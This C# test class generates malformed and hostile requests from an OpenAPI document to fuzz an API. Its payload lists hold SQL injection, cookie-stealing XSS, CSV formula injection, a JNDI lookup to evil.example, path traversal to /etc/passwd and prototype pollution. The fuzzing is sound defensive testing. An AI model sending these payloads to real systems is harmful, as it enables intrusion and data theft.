using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Integrity.Tests;

/// <summary>
/// Generates, from the OpenAPI document, requests that a careless or hostile client could send to an operation:
/// missing, extra and wrongly typed fields, edge and huge values, malformed JSON and nesting, unreadable ids and
/// dates, unicode that breaks naive code, injection strings, wrong content types and oversized bodies. The same
/// seed gives the same requests.
/// </summary>
public sealed class BadInput(JsonObject document, IReadOnlyDictionary<string, Guid[]> knownIds, int seed)
{
    /// <summary>JSON texts that JsonNode cannot hold (1e400, lone surrogates), put in a body in place of their token.</summary>
    private readonly List<string> raws = [];

    private static readonly string[] Hostile =
    [
        "' OR '1'='1", "Robert'); DROP TABLE participants;--", "1; SELECT pg_sleep(10)--", "%' AND 1=0 UNION SELECT password_hash FROM users--",
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "\"><svg onload=alert(1)>",
        "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1", "\r=1",
        "\u202Eevil.exe\u202Cfdp.txt", "مصلحة الجمارك", "עברית \u200F", "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A",
        "e\u0301\u0301\u0301", "a\0b", "\u0000", "\uFEFF", "\u200B\u200C\u200D", "\uFFFF\uFFFE", "👮🏽‍♀️🇧🇫", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "İıŞş ß ǅ",
        "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%s%n", "null", "undefined", "NaN", "-0", "",
        " ", new string('x', 10_000), string.Concat(Enumerable.Repeat("é\u0301", 5_000)),
    ];

    /// <summary>Hostile text goes out as written, not \u-escaped; deep nesting is part of the test.</summary>
    private static readonly JsonSerializerOptions Unescaped = new()
    {
        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping, MaxDepth = 1_000,
    };

    private static readonly string[] RawStrings = ["\"\\ud800\"", "\"\\udfff\\ud800x\"", "\"a\\u0000b\"", "\"\\uDBFF\""];

    // No NUL here: a %00 in a path never reaches the app (Kestrel refuses the request line, the test host throws).
    private static readonly string[] BadIds =
    [
        "not-a-uuid", "0", "-1", "99999999999999999999", "00000000-0000-0000-0000-000000000000", "{00000000-0000-0000-0000-000000000000}",
        "' OR '1'='1", "%00", "..", "%2e%2e", "\u202E", "a\u0301", new string('a', 5_000), Guid.NewGuid().ToString("N") + "x", "null", "1e309",
    ];

    private static readonly string[] BadDates =
    [
        "2023-02-30", "2023-13-01", "0000-00-00", "29-11-2023", "29/11/2023", "2023-11-29T25:00:00Z", "9999-12-31", "0001-01-01",
        "-2023-11-29", "+002023-11-29", "2023-W48", "today", "", "20231129",
    ];

    private static readonly string[] BadNumbers = ["-1", "0", "201", "2147483648", "99999999999999999999", "1e309", "1.5", "NaN", "0x10", "١٢"];

    private static readonly string[] Malformed =
    [
        "{", "}", "[]", "null", "\"text\"", "42", "{\"a\":}", "{\"a\":1,}", "{'a':1}", "{\"a\":1}{\"b\":2}", "{\"a\":1 /* comment */}",
        "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":1e400}", "{\"a\":\"\\x41\"}", "{\"a\" 1}", "\uFEFF{}", "{\"a\":\"unterminated}",
    ];

    private static readonly string[] WrongContentTypes =
    [
        "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
        "application/json; charset=utf-16", "text/csv", "image/png", "*/*",
    ];

    private Random random = new(seed);
    private int number;

    /// <summary>The requests for one operation; the same seed and operation give the same requests.</summary>
    public IEnumerable<BadRequest> For(ApiOperation operation)
    {
        random = new Random(seed ^ StableHash(operation.Id));
        number = 0;
        // Every body is serialized below, so the last operation's placeholders need not be searched for again.
        raws.Clear();
        var requests = new List<BadRequest>();
        requests.AddRange(BadPaths(operation));
        requests.AddRange(BadQueries(operation));
        if (operation.BodyMediaType == "application/json") requests.AddRange(BadJsonBodies(operation));
        else if (operation.BodyMediaType is not null) requests.AddRange(BadSheets(operation));
        else if (operation.Method != HttpMethod.Get) requests.Add(New(operation, "unexpected body", Path(operation), "application/json", Encoding.UTF8.GetBytes("{\"a\":[1,2,3]}")));
        requests.AddRange(BadHeaders(operation));
        requests.Add(New(operation, "anonymous", Path(operation), operation.BodyMediaType, SampleBody(operation), anonymous: true));
        var badId = Pick(BadIds);
        var hostilePath = operation.PathParameters.Count > 0 ? Path(operation, (operation.PathParameters[0], badId)) : $"{Path(operation)}/{Uri.EscapeDataString(badId)}";
        requests.Add(New(operation, "anonymous, hostile path", hostilePath, operation.BodyMediaType, SampleBody(operation), anonymous: true));
        return requests;
    }

    private IEnumerable<BadRequest> BadPaths(ApiOperation operation)
    {
        foreach (var parameter in operation.PathParameters)
            for (var i = 0; i < 6; i++)
            {
                var id = Pick(BadIds);
                yield return New(operation, $"{parameter} = {Describe(id)}", Path(operation, (parameter, id)), operation.BodyMediaType, SampleBody(operation));
            }
        if (operation.PathParameters.Count > 0)
            yield return New(operation, "unknown ids", Path(operation, operation.PathParameters.Select(p => (p, Guid.NewGuid().ToString())).ToArray()),
                operation.BodyMediaType, SampleBody(operation));
    }

    private IEnumerable<BadRequest> BadQueries(ApiOperation operation)
    {
        foreach (var (name, schema) in operation.QueryParameters)
            for (var i = 0; i < 3; i++)
            {
                var value = (string?)schema["format"] == "date" ? Pick(BadDates)
                    : (string?)schema["type"] is "integer" or "number" ? Pick(BadNumbers)
                    : Pick(random.Next(2) == 0 ? Hostile : BadIds);
                yield return New(operation, $"?{name} = {Describe(value)}", $"{Path(operation)}?{name}={Uri.EscapeDataString(value)}", operation.BodyMediaType, SampleBody(operation));
            }
        if (operation.QueryParameters.Count > 0)
        {
            var (first, _) = operation.QueryParameters[0];
            yield return New(operation, $"?{first} twice", $"{Path(operation)}?{first}=1&{first}=2", operation.BodyMediaType, SampleBody(operation));
        }
        if (operation.Method == HttpMethod.Get)
            yield return New(operation, "unknown query parameters", $"{Path(operation)}?{Uri.EscapeDataString(Pick(Hostile))}=1&limit=&cursor=%00", null, null);
    }

    private IEnumerable<BadRequest> BadJsonBodies(ApiOperation operation)
    {
        var schema = Resolve(operation.BodySchema!);
        var properties = schema["properties"]?.AsObject().Select(p => (p.Key, Schema: Resolve(p.Value!.AsObject()))).ToList() ?? [];
        var required = schema["required"]?.AsArray().Select(r => (string)r!).ToList() ?? [];
        var path = Path(operation);

        foreach (var field in required)
        {
            var body = (JsonObject)Sample(schema, "", 0)!;
            body.Remove(field);
            body["unexpectedField"] = "x";
            body["__proto__"] = new JsonObject { ["isAdmin"] = true };
            yield return New(operation, $"missing {field}, extra fields", path, "application/json", Serialize(body));
        }
        foreach (var (field, fieldSchema) in Shuffle(properties).Take(6))
            yield return WithField(operation, schema, field, $"wrong type for {field}", WrongType(fieldSchema));
        foreach (var (field, fieldSchema) in Shuffle(properties).Where(p => IsText(p.Schema)).Take(5))
        {
            var value = Pick(Hostile);
            yield return WithField(operation, schema, field, $"{field} = {Describe(value)}", JsonValue.Create(value));
        }
        foreach (var (field, fieldSchema) in Shuffle(properties).Take(4))
            yield return WithField(operation, schema, field, $"edge value for {field}", EdgeValue(field, fieldSchema));
        foreach (var (field, _) in Shuffle(properties).Where(p => IsText(p.Schema)).Take(2))
            yield return WithField(operation, schema, field, $"escaped unicode in {field}", Raw(Pick(RawStrings)));
        if (properties.Count > 0)
        {
            var (field, _) = Pick(properties);
            yield return WithField(operation, schema, field, $"3 MB in {field}", JsonValue.Create(new string('x', 3_000_000)));
            yield return WithField(operation, schema, field, $"200 levels deep in {field}", Nested(200));
        }
        for (var i = 0; i < 3; i++)
        {
            var text = Pick(Malformed);
            yield return New(operation, $"malformed JSON {Describe(text)}", path, "application/json", Encoding.UTF8.GetBytes(text));
        }
        yield return New(operation, "100,000 nested arrays", path, "application/json", Encoding.UTF8.GetBytes(new string('[', 100_000) + new string(']', 100_000)));
        yield return New(operation, "invalid UTF-8", path, "application/json", [(byte)'{', (byte)'"', 0xFF, 0xFE, 0xC3, (byte)'"', (byte)':', (byte)'1', (byte)'}']);
        yield return New(operation, "empty body", path, "application/json", []);
        yield return New(operation, "no body", path, null, null);
        for (var i = 0; i < 2; i++)
        {
            var contentType = Pick(WrongContentTypes);
            yield return New(operation, $"Content-Type {contentType}", path, contentType, SampleBody(operation));
        }
        yield return New(operation, "no Content-Type", path, null, SampleBody(operation));
    }

    /// <summary>Attendance sheets that are not one: wrong type, unreadable bytes, broken quoting, hostile cells, too big.</summary>
    private IEnumerable<BadRequest> BadSheets(ApiOperation operation)
    {
        var path = Path(operation);
        var hostileRow = string.Join(";", Enumerable.Range(0, 6).Select(_ => Pick(Hostile).Replace("\0", "", StringComparison.Ordinal)));
        var sheets = new (string Variant, string ContentType, byte[] Body)[]
        {
            ("JSON instead of CSV", "application/json", Encoding.UTF8.GetBytes("{\"familyName\":\"x\"}")),
            ("empty sheet", "text/csv", []),
            ("header only", "text/csv", Encoding.UTF8.GetBytes("nom;prénoms;sexe\r\n")),
            ("no known header", "text/csv", Encoding.UTF8.GetBytes("a,b,c\r\n1,2,3\r\n")),
            ("unpaired quotes", "text/csv", Encoding.UTF8.GetBytes("nom;prénoms;sexe;service\r\n\"Ouédraogo;\"Aminata;F;operational\r\n")),
            ("hostile cells", "text/csv", Encoding.UTF8.GetBytes($"nom;prénoms;sexe;service;courriel;matricule\r\n{hostileRow}\r\n")),
            ("invalid UTF-8", "text/csv", [0xFF, 0xFE, 0x00, 0x6E, 0x00, 0x6F, 0xC3, 0x28, 0x0D, 0x0A]),
            ("NUL bytes", "text/csv", Encoding.UTF8.GetBytes("nom\0;prénoms\0\r\n\0;\0\r\n")),
            ("10,000 columns", "text/csv", Encoding.UTF8.GetBytes(string.Join(";", Enumerable.Range(0, 10_000).Select(i => $"c{i}")) + "\r\n")),
            ("6 MB sheet", "text/csv", Encoding.UTF8.GetBytes("nom;prénoms;sexe;service\r\n" + new string('x', 6_000_000) + "\r\n")),
            ("charset latin1", "text/csv; charset=iso-8859-1", [0x6E, 0x6F, 0x6D, 0x3B, 0x70, 0x72, 0xE9, 0x6E, 0x6F, 0x6D, 0x73, 0x0D, 0x0A]),
        };
        foreach (var (variant, contentType, body) in sheets) yield return New(operation, variant, path, contentType, body);
    }

    private IEnumerable<BadRequest> BadHeaders(ApiOperation operation)
    {
        var path = Path(operation);
        if (operation.TakesIdempotencyKey)
            foreach (var key in new[] { new string('k', 101), "", " ", "ключ-🔑-\u202E", Pick(Hostile) })
                yield return New(operation, $"Idempotency-Key {Describe(key)}", path, operation.BodyMediaType, SampleBody(operation), headers: [("Idempotency-Key", key)]);
        if (operation.Method == HttpMethod.Put)
            foreach (var etag in new[] { "garbage", "\"-1\"", "\"99999999999999999999\"", "*", "W/\"1\"", "\"1\", \"2\"", "\"\"", "\"1" })
                yield return New(operation, $"If-Match {etag}", path, operation.BodyMediaType, SampleBody(operation), headers: [("If-Match", etag)]);
        foreach (var accept in new[] { "image/png", "application/json;q=abc, */*;;;" })
            yield return New(operation, $"Accept: {accept}", path, operation.BodyMediaType, SampleBody(operation), headers: [("Accept", accept)]);
        foreach (var credentials in new[] { $"Bearer itg_{Pick(Hostile)}", $"Bearer {new string('a', 10_000)}", "Basic YWRtaW46YWRtaW4=", "Bearer" })
            yield return New(operation, $"Authorization: {Describe(credentials)}", path, operation.BodyMediaType, SampleBody(operation),
                headers: [("Authorization", credentials)], anonymous: true);
    }

    private BadRequest WithField(ApiOperation operation, JsonObject schema, string field, string variant, JsonNode? value)
    {
        var body = (JsonObject)Sample(schema, "", 0)!;
        body[field] = value;
        return New(operation, variant, Path(operation), "application/json", Serialize(body));
    }

    private BadRequest New(ApiOperation operation, string variant, string path, string? contentType, byte[]? body,
        IReadOnlyList<(string, string)>? headers = null, bool anonymous = false)
    {
        var withVersion = operation.Method == HttpMethod.Put && headers?.Any(header => header.Item1 == "If-Match") != true
            ? [.. headers ?? [], ("If-Match", "\"1\"")]
            : headers ?? [];
        return new BadRequest(operation, ++number, variant, path, contentType, body, withVersion, anonymous);
    }

    private byte[]? SampleBody(ApiOperation operation) => operation.BodyMediaType switch
    {
        "application/json" => Serialize(Sample(Resolve(operation.BodySchema!), "", 0)),
        null => null,
        _ => Encoding.UTF8.GetBytes("nom;prénoms;sexe;service\r\nFuzz;Sample;F;operational\r\n"),
    };

    /// <summary>The operation's path with each parameter a known id of its kind where there is one, or as given.</summary>
    private string Path(ApiOperation operation, params (string Name, string Value)[] given)
    {
        var path = operation.Path;
        var segments = operation.Path.Split('/');
        foreach (var parameter in operation.PathParameters)
        {
            var value = given.FirstOrDefault(g => g.Name == parameter).Value ?? KnownId(segments, parameter).ToString();
            path = path.Replace($"{{{parameter}}}", Uri.EscapeDataString(value), StringComparison.Ordinal);
        }
        return path;
    }

    /// <summary>"/workshops/{id}" wants a workshop, "{moduleId}" a module; anything else, any id.</summary>
    private Guid KnownId(string[] segments, string parameter)
    {
        var before = segments[Array.IndexOf(segments, $"{{{parameter}}}") - 1];
        var kind = parameter == "id" ? before : parameter[..^2] + "s";
        var ids = knownIds.GetValueOrDefault(kind) ?? knownIds.GetValueOrDefault(before) ?? knownIds.Values.SelectMany(i => i).ToArray();
        return ids.Length == 0 ? Guid.NewGuid() : Pick(ids);
    }

    /// <summary>A value of the schema's shape that a validator could accept, so that one bad part is what gets tested.</summary>
    private JsonNode? Sample(JsonObject schema, string name, int depth)
    {
        schema = Resolve(schema);
        if (schema["enum"] is JsonArray values) return values[0]?.DeepClone();
        return (string?)schema["type"] switch
        {
            "integer" => JsonValue.Create(1),
            "number" => JsonValue.Create(1.5),
            "boolean" => JsonValue.Create(true),
            "array" when depth < 4 => new JsonArray(Sample(schema["items"]!.AsObject(), name, depth + 1)),
            "object" or null when depth < 4 && schema["properties"] is JsonObject properties =>
                new JsonObject(properties.Select(p => KeyValuePair.Create(p.Key, Sample(p.Value!.AsObject(), p.Key, depth + 1)))),
            "string" => JsonValue.Create(SampleText(name, (string?)schema["format"])),
            _ => null,
        };
    }

    private string SampleText(string name, string? format) => format switch
    {
        "uuid" => KnownId(["", $"{name}s", "{id}"], "id").ToString(),
        "date" => "2023-11-29",
        "date-time" => "2023-11-29T09:00:00Z",
        _ => name switch
        {
            "countryCode" => "BF",
            "regionCode" => "WCA",
            "language" => "fr",
            "email" => $"fuzz.{random.Next(1_000_000)}@example.test",
            _ when name.Contains("keyFactor", StringComparison.OrdinalIgnoreCase) => "RAD-01",
            _ when name.Contains("password", StringComparison.OrdinalIgnoreCase) => "fuzz-password-123456",
            _ when name.Contains("code", StringComparison.OrdinalIgnoreCase) => $"FUZZ-{random.Next(1_000_000)}",
            _ when name.Contains("url", StringComparison.OrdinalIgnoreCase) || name.Contains("link", StringComparison.OrdinalIgnoreCase) => "https://example.test/evidence",
            _ => "Fuzz sample",
        },
    };

    private JsonNode? WrongType(JsonObject schema) => (string?)Resolve(schema)["type"] switch
    {
        "integer" or "number" => Pick<JsonNode?>(["12", JsonValue.Create(true), Raw("1e400"), Raw("99999999999999999999"), new JsonArray()]),
        "array" => Pick<JsonNode?>(["x", new JsonObject(), JsonValue.Create(1), new JsonArray(new JsonArray(new JsonArray()))]),
        "boolean" => Pick<JsonNode?>(["true", JsonValue.Create(1), new JsonObject()]),
        _ => Pick<JsonNode?>([JsonValue.Create(12345), JsonValue.Create(false), new JsonObject(), new JsonArray(), Raw("1e400")]),
    };

    private JsonNode? EdgeValue(string field, JsonObject schema)
    {
        var resolved = Resolve(schema);
        return ((string?)resolved["type"], (string?)resolved["format"]) switch
        {
            ("integer", _) => Pick<JsonNode?>([-1, 0, int.MaxValue, int.MinValue, Raw("2147483648"), JsonValue.Create(1.5)]),
            ("number", _) => Pick<JsonNode?>([-1e308, 1e308, 0.000000001, -0.0, Raw("1e-400")]),
            ("string", "date") => Pick(BadDates),
            ("string", "date-time") => Pick<JsonNode?>(["0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2023-11-29T09:00:00+14:00", "2023-11-29"]),
            ("string", "uuid") => Pick(BadIds),
            ("array", _) => new JsonArray(Enumerable.Range(0, 10_000).Select(_ => Sample(resolved["items"]!.AsObject(), field, 1)).ToArray()),
            _ => JsonValue.Create((string?)null),
        };
    }

    private static JsonNode Nested(int depth)
    {
        JsonNode node = JsonValue.Create("bottom");
        for (var i = 0; i < depth; i++) node = new JsonObject { ["a"] = node };
        return node;
    }

    private JsonObject Resolve(JsonObject schema) =>
        schema["$ref"] is JsonValue reference
            ? document["components"]!["schemas"]![((string)reference!).Split('/')[^1]]!.AsObject()
            : schema["allOf"] is JsonArray { Count: 1 } only ? Resolve(only[0]!.AsObject()) : schema;

    private bool IsText(JsonObject schema) => (string?)Resolve(schema)["type"] == "string" && Resolve(schema)["enum"] is null;

    private JsonNode Raw(string json)
    {
        raws.Add(json);
        return JsonValue.Create($"raw-json-{raws.Count - 1}");
    }

    private byte[] Serialize(JsonNode? body)
    {
        var text = body?.ToJsonString(Unescaped) ?? "null";
        for (var i = 0; i < raws.Count; i++) text = text.Replace($"\"raw-json-{i}\"", raws[i], StringComparison.Ordinal);
        return Encoding.UTF8.GetBytes(text);
    }

    private static string Describe(string value) =>
        value.Length > 40 ? $"{value.Length} chars \"{value[..20]}…\"" : JsonSerializer.Serialize(value);

    private T Pick<T>(IReadOnlyList<T> values) => values[random.Next(values.Count)];

    private IEnumerable<T> Shuffle<T>(IEnumerable<T> values) => values.OrderBy(_ => random.Next()).ToList();

    /// <summary>string.GetHashCode differs between runs; the seed must not.</summary>
    private static int StableHash(string text) => text.Aggregate(unchecked((int)2166136261), (hash, c) => unchecked((hash ^ c) * 16777619));
}
